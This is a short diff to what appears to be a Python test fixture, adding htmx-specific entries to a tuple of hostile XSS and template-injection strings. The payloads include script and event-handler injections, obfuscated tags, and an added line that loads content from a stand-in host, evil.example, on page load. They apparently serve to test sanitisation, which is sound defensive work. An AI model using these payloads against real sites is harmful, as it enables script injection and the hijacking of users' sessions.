@@ -49,6 +49,7 @@ HOSTILE = (
     "<input autofocus onfocus=alert(1)>", "<marquee onstart=alert(1)>", "{{ 7*7 }}", "{% raw %}<b>", "${7*7}",
     "<EMAIL_ADDRESS_ab12cd34><script>1</script>", "<PERSON_abc123\" onmouseover=\"alert(1)>",
     "&lt;script&gt;alert(1)&lt;/script&gt;", "\u202e<script>tpircs", "<scr\x00ipt>alert(1)</script>",
+    "<div hx-get=//evil.example hx-trigger=load>", "\" hx-on:load=\"alert(1)", "<hx-partial hx-target=body>x</hx-partial>",
     "<!--<script>alert(1)</script>-->", "<![CDATA[<script>alert(1)</script>]]>",
 )  # fmt: skip
 
